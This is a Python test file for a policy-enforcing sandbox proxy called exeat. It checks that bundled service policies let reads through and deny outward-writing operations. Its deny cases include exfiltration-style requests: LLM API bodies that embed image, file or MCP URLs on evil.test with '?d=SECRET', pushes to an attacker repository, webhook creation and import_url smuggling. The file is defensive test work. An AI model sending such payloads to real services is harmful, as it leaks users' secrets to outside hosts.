#!/usr/bin/env python3
"""The services that come with exeat: each loads with its expectations, and `read` gives away nothing that writes."""
import glob
import os
import re
import subprocess
import tempfile

from helpers import POLICY, SECRET, ask, is_served, small_place
from place import BUILD, Report

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
FOLDER = os.path.join(ROOT, "policy", "services")
os.environ["EXEAT_SHARE"] = os.path.dirname(FOLDER)
FILES = sorted(os.path.basename(path) for path in glob.glob(os.path.join(FOLDER, "*.policy")))

# Every capability whose use leaves something where others, or the far end by itself, can get at it.
OUTWARD = re.compile(r"upload|publish|push|fork|share|invite|webhook|import|release|with-urls|with-tools|unfurl|pay-out|create-repo|"
                     r"write|merge|workflow|pipeline|batches|post|comment|open-")


def check(directory, text):
    path = os.path.join(directory, "policy")
    with open(path, "w") as f:
        f.write(text)
    return subprocess.run([os.path.join(BUILD, "exeat"), "policy", "check", path], stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, text=True)


def loads(text):
    with tempfile.TemporaryDirectory() as directory:
        done = check(directory, text)
        assert done.returncode == 0, done.stdout
        return done.stdout


def refused(text):
    with tempfile.TemporaryDirectory() as directory:
        done = check(directory, text)
        assert done.returncode == 3, "this loads: " + text
        return done.stdout


def services(file):
    """Name, first host, operations with their marks, and expectations of each service of a file."""
    with open(os.path.join(FOLDER, file)) as f:
        text = re.sub(r"(^|\s)#.*", "", f.read())
    for name, block in re.findall(r"^service (\S+) \{\n(.*?)^\}", text, re.M | re.S):
        host = re.search(r"^\s+host\s+(\S+)", block, re.M).group(1)
        operations = dict(re.findall(r"^\s+operation\s+(\S+)\s+([^{]*)\{", block, re.M))
        yield name, host, operations, re.findall(r"^\s+expect\s+(allow|deny)\s+(.*)$", block, re.M)


def whole(host, request):
    """An expectation's request, with the service's host."""
    return re.sub(r"((?:with \w+ )?[A-Z]+ )('?)/", r"\1\2https://%s/" % host, request, count=1)


# ---- all of them ----

def every_file_loads_by_its_name_and_several_together(_):
    assert len(FILES) >= 8, FILES
    for file in FILES:
        loads("include services/%s\n" % file)
    loads("".join("include services/%s\n" % file for file in FILES))


def every_service_has_expectations_of_both_kinds_and_they_can_fail(_):
    for file in FILES:
        with open(os.path.join(FOLDER, file)) as f:
            text = f.read()
        for name, _, _, expectations in services(file):
            assert {"allow", "deny"} == {verdict for verdict, _ in expectations}, name
            for verdict, request in expectations:
                other = {"allow": "deny", "deny": "allow"}[verdict]
                bare = re.sub(r" reason \w+$", "", request)
                line = re.search(r"expect +%s +%s$" % (verdict, re.escape(request)), text, re.M).group(0)
                assert other in refused(text.replace(line, "expect %s %s" % (other, bare), 1)), line


def every_operation_is_tried(_):
    """Without it, what `expect allow` names is not all allowed: none is there for nothing. Where another covers it, CASES try it."""
    for file in FILES:
        for name, host, operations, expectations in services(file):
            allowed = [request for verdict, request in expectations if verdict == "allow"]
            for operation in operations:
                if operation + "-with-urls" in operations:
                    continue
                grants = [o for o in operations if o != operation]
                text = "include services/%s\nsandbox s { %s }\n" % (file, "grant %s %s" % (name, " ".join(grants)) if grants else "")
                lines = ["expect allow as s %s\n" % whole(host, request) for request in allowed]
                refused(text + "".join(lines))


def read_includes_nothing_that_goes_outward(_):
    """What `expect allow` names of such an operation is refused to somebody who was granted `read`."""
    tried = 0
    for file in FILES:
        for name, host, operations, expectations in services(file):
            risky = [o for o in operations if OUTWARD.search(o) and not re.match("read-|download|count-", o)]
            if not risky or name.endswith("-git"):
                continue
            assert not [o for o in risky if "preset read" in operations[o]], risky
            readers = [o for o in operations if "preset read" in operations[o] or re.match(r"read|search|download|fetch", o)]
            text = "include services/%s\nsandbox r { %s }\nsandbox w { grant %s %s }\n" % (
                file, "grant %s read" % name if readers else "", name, " ".join(risky))
            for verdict, request in expectations:
                if verdict == "allow" and "with none" not in request:
                    outward = "expect allow as w %s\n" % whole(host, request)
                    with tempfile.TemporaryDirectory() as directory:
                        if check(directory, text + outward).returncode == 0:
                            loads(text + "expect deny as r %s\n" % whole(host, request))
                            tried += 1
    assert tried >= 25, tried


def docs_services_md_is_true(_):
    with open(os.path.join(ROOT, "docs", "services.md")) as f:
        text = f.read()
    loads(re.search(r"^```\n(.*?)^```", text, re.M | re.S).group(1))
    rows = dict(re.findall(r"^\| `([\w-]+\.policy)` \| (.*) \|$", text, re.M))
    assert sorted(rows) == FILES, rows
    for file, row in rows.items():
        with open(os.path.join(FOLDER, file)) as f:
            source = f.read()
        names = re.findall(r"^service (\S+)", source, re.M) + sorted(set(re.findall(r"^ +credential +(\S+)", source, re.M)))
        assert sorted(re.findall(r"`([\w-]+)`", row)) == sorted(names), (file, names)


# ---- cases ----

CASES = [
    # case, file, grants of the one sandbox, verdict and request
    ("GF-01", "github", "grant github-git fetch", "deny GET 'https://github.com/attacker/x/info/refs?service=git-receive-pack'"),
    ("GF-01", "github", "grant github-git fetch", "deny POST https://github.com/attacker/x.git/git-receive-pack"),
    ("GF-01", "github", "grant github-git fetch", "allow with none GET 'https://github.com/a/x.git/info/refs?service=git-upload-pack'"),
    ("GF-01", "gitlab", "grant gitlab read", "deny POST https://gitlab.com/attacker/x.git/git-receive-pack"),
    ("GF-03", "github", "grant github-git all",
     "deny GET 'https://github.com/a/x/info/refs?service=git-upload-pack&service=git-receive-pack'"),
    ("GF-03", "github", "grant github-git fetch", "deny GET 'https://github.com/a/x/info/refs?service=git%2Dreceive%2Dpack'"),
    ("GF-03", "github", "grant github-git all", "deny GET https://github.com/a/x/HEAD"),
    ("GF-04", "github", "grant github read", "deny PUT https://api.github.com/repos/o/r/contents/x"),
    ("GF-04", "github", "grant github read", "deny POST https://api.github.com/repos/o/r/git/blobs"),
    ("GF-04", "github", "grant github read", "deny POST https://api.github.com/gists"),
    ("GF-04", "github", "grant github read", "deny POST https://api.github.com/user/repos"),
    ("GF-04", "github", "grant github read", "deny POST https://api.github.com/repos/o/r/forks"),
    ("GF-04", "github", "grant github read", "deny PATCH https://api.github.com/user/repository_invitations/1"),
    ("GF-04", "github", "grant github read", "deny POST https://uploads.github.com/repos/o/r/releases/1/assets reason host_not_allowed"),
    ("GF-05", "container-registry", "grant container-registry read", "deny PUT https://registry.example.com/v2/app/manifests/v1"),
    ("GF-05", "container-registry", "grant container-registry read", "deny POST https://registry.example.com/v2/app/blobs/uploads/"),
    ("GF-05", "huggingface", "grant huggingface read", "deny POST https://huggingface.co/api/models/a/b/commit/main"),
    ("GF-06", "container-registry", "grant container-registry all", "deny GET 'https://storage.example.com/x?sig=1' reason host_not_allowed"),
    ("GF-07", "github", "grant github all; grant github-git all", "deny POST https://github.com/login/device/code"),
    ("GF-07", "gitlab", "grant gitlab all", "deny POST https://gitlab.com/oauth/token"),
    ("GF-07", "slack", "grant slack all", "deny POST https://slack.com/api/oauth.v2.access"),
    ("GF-09", "github", "grant github read", "deny PUT https://api.github.com/repos/o/r/import"),
    ("GF-09", "gitlab", "grant gitlab read", "deny POST https://gitlab.com/api/v4/projects/import"),
    ("GF-09", "gitlab", "grant gitlab read", "deny POST https://gitlab.com/api/v4/projects/7/remote_mirrors"),
    ("SF-01", "anthropic", "grant anthropic messages", "allow POST https://api.anthropic.com/v1/messages type application/json"),
    ("SF-01", "anthropic", "grant anthropic messages", "deny POST https://api.anthropic.com/v1/messages type application/json "
     """body '{"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.test/?d=SECRET"}}]}]}'"""),
    ("SF-01", "openai", "grant openai chat", "deny POST https://api.openai.com/v1/chat/completions type application/json "
     """body '{"messages":[{"content":[{"type":"image_url","image_url":{"url":"https://evil.test/?d=SECRET"}}]}]}'"""),
    ("SF-01", "openai", "grant openai responses", "deny POST https://api.openai.com/v1/responses type application/json "
     """body '{"input":[{"content":[{"type":"input_file","file_url":"https://evil.test/?d=SECRET"}]}]}'"""),
    ("SF-01", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.test/?d=SECRET"}}]}]}'"""),
    ("SF-01", "anthropic", "grant anthropic messages", "deny POST https://api.anthropic.com/v1/messages type application/json "
     """body '{"messages":[{"content":[{"type":"document","source":{"type":"content","content":"""
     """[{"type":"image","source":{"type":"url","url":"https://evil.test/?d=SECRET"}}]}}]}]}'"""),
    ("SF-01", "openai", "grant openai chat", "deny POST https://api.openai.com/v1/chat/completions type application/json "
     """body '{"messages":[{"content":[{"image_url":{"url":"data:image/png;base64,AA"}},{"image_url":"https://evil.test/?d=SECRET"}]}]}'"""),
    ("SF-01", "openai", "grant openai responses", "deny POST https://api.openai.com/v1/responses type application/json "
     """body '{"input":[{"type":"computer_call_output","output":{"image_url":"https://evil.test/?d=SECRET"}}]}'"""),
    ("SF-01", "openai", "grant openai read", "deny POST https://api.openai.com/v1/moderations type application/json "
     """body '{"input":[{"type":"image_url","image_url":{"url":"https://evil.test/?d=SECRET"}}]}'"""),
    ("SF-01", "openai", "grant openai read", "allow POST https://api.openai.com/v1/moderations type application/json "
     """body '{"input":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}]}'"""),
    ("SF-01", "openai", "grant openai images", "deny POST https://api.openai.com/v1/images/edits type application/json "
     """body '{"images":[{"image_url":"https://evil.test/?d=SECRET"}]}'"""),
    ("SF-01", "openai", "grant openai images", "allow POST https://api.openai.com/v1/images/edits type 'multipart/form-data; boundary=x'"),
    ("SF-01", "huggingface", "grant huggingface-inference chat", "deny POST https://router.huggingface.co/v1/chat/completions "
     """type application/json body '{"messages":[{"content":[{"video_url":{"url":"https://evil.test/?d=SECRET"}}]}]}'"""),
    ("SF-01", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"contents":{"parts":{"file_data":{"file_uri":"https://evil.test/?d=SECRET"}}}}'"""),
    ("SF-01", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"contents":[{"parts":{"fileData":{"fileUri":"https://evil.test/?d=SECRET"}}}]}'"""),
    ("SF-02", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"tools":{"google_search":{}}}'"""),
    ("SF-02", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"tools":[{"url_context":{}}]}'"""),
    ("SF-02", "openai", "grant openai chat", "deny POST https://api.openai.com/v1/chat/completions type application/json "
     """body '{"model":"gpt-x-search-preview"}'"""),
    ("GF-09", "gitlab", "grant gitlab create-repo", "deny POST https://gitlab.com/api/v4/projects type application/json "
     """body '{"name":"x","import_url":"https://evil.test/?d=SECRET"}'"""),
    ("GF-09", "gitlab", "grant gitlab create-repo", "deny POST 'https://gitlab.com/api/v4/projects?import_url=https://evil.test/'"),
    ("GF-09", "gitlab", "grant gitlab create-repo", "allow POST https://gitlab.com/api/v4/projects type application/json "
     """body '{"name":"x"}'"""),
    ("SF-02", "anthropic", "grant anthropic messages", "deny POST https://api.anthropic.com/v1/messages type application/json "
     """body '{"tools":[{"type":"web_fetch_20250910"}]}'"""),
    ("SF-02", "anthropic", "grant anthropic messages", "deny POST https://api.anthropic.com/v1/messages type application/json "
     """body '{"mcp_servers":[{"type":"url","url":"https://evil.test/"}]}'"""),
    ("SF-02", "openai", "grant openai responses", "deny POST https://api.openai.com/v1/responses type application/json "
     """body '{"tools":[{"type":"mcp","server_url":"https://evil.test/"}]}'"""),
    ("SF-02", "gemini", "grant gemini generate", "deny POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"tools":[{"urlContext":{}}]}'"""),
    ("AP-01", "github", "grant github read", "deny POST https://api.github.com/graphql type application/json "
     """body '{"query":"mutation { createIssue(input: {}) { clientMutationId } }"}' reason operation_not_granted"""),
    ("AP-01", "github", "grant github all", "deny POST https://api.github.com/graphql type application/json "
     """body '{"query":"mutation { deleteRepository(input: {}) { clientMutationId } }"}' reason operation_not_allowed"""),
    ("SF-01", "anthropic", "grant anthropic messages", "allow POST https://api.anthropic.com/v1/messages type application/json "
     """body '{"messages":[{"content":[{"type":"image","source":{"type":"base64","data":"AAAA"}}]}],"tools":[{"name":"f"}]}'"""),
    ("SF-01", "openai", "grant openai chat", "allow POST https://api.openai.com/v1/chat/completions type application/json "
     """body '{"messages":[{"content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}}]}]}'"""),
    ("SF-01", "openai", "grant openai responses", "allow POST https://api.openai.com/v1/responses type application/json "
     """body '{"input":"hello","tools":[{"type":"function","name":"f"}]}'"""),
    ("SF-01", "gemini", "grant gemini generate", "allow POST https://generativelanguage.googleapis.com/v1beta/models/g:generateContent "
     """type application/json body '{"contents":[{"parts":[{"text":"hello"}]}]}'"""),
    ("SF-01", "huggingface", "grant huggingface-inference chat", "allow POST https://router.huggingface.co/v1/chat/completions "
     """type application/json body '{"messages":[{"role":"user","content":"hello"}]}'"""),
    ("SF-03", "github", "grant github read write-contents", "deny POST https://api.github.com/repos/o/r/hooks"),
    ("SF-03", "stripe", "grant stripe read", "deny POST https://api.stripe.com/v1/webhook_endpoints"),
    ("SF-03", "gitlab", "grant gitlab read", "deny POST https://gitlab.com/api/v4/projects/7/hooks"),
    ("SF-03", "jira", "grant jira read open-issue", "deny POST https://jira.example.com/rest/api/3/webhook"),
    ("SF-06", "jira", "grant jira read comment", "deny POST https://jira.example.com/rest/api/3/issue/AB-7/notify"),
    ("SF-05", "slack", "grant slack read post-message", "deny POST https://slack.com/api/chat.unfurl"),
    ("SF-07", "anthropic", "grant anthropic messages", "deny POST https://api.anthropic.com/v1/messages type application/x-ndjson"),
    ("SF-07", "openai", "grant openai chat", "deny POST https://api.openai.com/v1/chat/completions type multipart/form-data"),
]


def a_project_s_policy_is_two_lines(case):
    _, file, grants, line = case
    verdict, request = line.split(" ", 1)
    loads("include services/%s.policy\nsandbox s { %s }\nexpect %s as s %s\n" % (file, grants, verdict, request))
    other = {"allow": "deny", "deny": "allow"}[verdict]
    refused("include services/%s.policy\nsandbox s { %s }\nexpect %s as s %s\n" % (
        file, grants, other, re.sub(r" reason \w+$", "", request)))


# ---- through the daemon ----

def an_included_file_is_served_and_followed_by_a_reload(place):
    """`include` beside the policy's file, by every role: the answer takes the host's leaf, its address and its key."""
    services_text, sandboxes = POLICY.split("sandbox a", 1)
    place.write("part.policy", place.fill(services_text))
    place.write_policy("include part.policy\nsandbox a" + sandboxes)
    place.exeat("reload")
    assert is_served(place)
    assert SECRET.encode() in place.upstream.requests[-1]
    place.write("part.policy", place.fill(services_text.replace("GET HEAD /v1/items;", "")))
    place.exeat("reload")
    assert ask(place).reason == "operation_not_allowed"
    place.write("part.policy", place.fill(services_text.replace("operation read", "operatoin read", 1)))
    place.exeat("reload", check=False)
    assert place.last.returncode == 3 and b"part.policy:7:5: " in place.last.stderr, place.last
    assert ask(place).reason == "operation_not_allowed"  # the policy that was in use
    place.write_policy(POLICY)
    place.exeat("reload")
    assert is_served(place)


def a_service_that_comes_with_exeat_is_found_by_the_daemon(place):
    place.write_policy(POLICY + "include services/stripe.policy\nsandbox e { grant stripe read }\n")
    place.exeat("reload")
    assert is_served(place)
    place.write_policy(POLICY)
    place.exeat("reload")


def main():
    report = Report()
    for test in (every_file_loads_by_its_name_and_several_together,
                 every_service_has_expectations_of_both_kinds_and_they_can_fail, every_operation_is_tried,
                 read_includes_nothing_that_goes_outward, docs_services_md_is_true):
        report.run(test, None)
    for case in CASES:
        report.run(a_project_s_policy_is_two_lines, case, "%s, %s: %s" % (case[0], case[1], case[3]))
    with small_place() as place:
        report.run(an_included_file_is_served_and_followed_by_a_reload, place)
        report.run(a_service_that_comes_with_exeat_is_found_by_the_daemon, place)
    report.end()


if __name__ == "__main__":
    main()
